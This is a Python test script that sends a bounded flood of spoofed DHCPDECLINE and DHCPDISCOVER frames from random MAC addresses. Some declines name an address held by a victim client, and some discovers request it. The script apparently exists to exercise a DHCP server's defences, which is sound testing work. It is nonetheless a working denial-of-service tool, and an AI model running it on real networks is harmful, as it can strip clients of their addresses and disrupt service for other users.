#!/usr/bin/env python3
"""A bounded DHCP flood from one interface, for the dhcp_flood test.

dhcp_flood.py IFACE COUNT SECONDS VICTIM_IP SERVER_IP
  Sends COUNT DHCPDECLINEs and COUNT DHCPDISCOVERs, interleaved, each from another
  random client MAC (the Ethernet source and chaddr agree, as a real client's would),
  paced evenly over SECONDS. The DECLINEs name, in turn: VICTIM_IP (an address another
  client holds), a random address of VICTIM_IP's /24, and a random address anywhere
  (mostly outside the subnet). Every fourth DISCOVER asks for VICTIM_IP.
Prints "started" once the first frame is out, and the number of frames sent at the end.
Stops after 2 * COUNT frames or SECONDS + 5 seconds, whichever first.
"""
import random, socket, struct, sys, time

import pktlib  # beside this script (its directory is on sys.path)
from pktlib import ipv4_udp

iface, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
victim = socket.inet_aton(sys.argv[4])
server = socket.inet_aton(sys.argv[5])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
rnd = random.Random(16)


def rmac():
    return pktlib.rmac(rnd)


def frame(i):
    mac = rmac()
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, rnd.getrandbits(32),
                        0, 0, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4,
                        mac + b"\0" * 10, b"\0" * 64, b"\0" * 128)
    opts = b"\x63\x82\x53\x63"
    if i % 2 == 0:
        j = (i // 2) % 3
        if j == 0:
            want = victim
        elif j == 1:
            want = victim[:3] + bytes([rnd.randrange(256)])
        else:
            want = bytes(rnd.getrandbits(8) for _ in range(4))
        # DHCPDECLINE (4) with the requested address and the server identifier.
        opts += b"\x35\x01\x04" + b"\x32\x04" + want + b"\x36\x04" + server
    else:
        opts += b"\x35\x01\x01"
        if (i // 2) % 4 == 0:
            opts += b"\x32\x04" + victim
    opts += b"\xff"
    ip = ipv4_udp(b"\0" * 4, b"\xff" * 4, 68, 67, bootp + opts)
    return b"\xff" * 6 + mac + b"\x08\x00" + ip


total = 2 * count
start = time.time()
end = start + seconds + 5.0
sent = 0
while sent < total and time.time() < end:
    # Evenly paced: frame `sent` is due at start + sent * seconds / total.
    due = start + sent * seconds / total
    now = time.time()
    if due > now:
        time.sleep(due - now)
    try:
        s.send(frame(sent))
    except OSError:
        pass
    sent += 1
    if sent == 1:
        print("started", flush=True)
print(sent, flush=True)
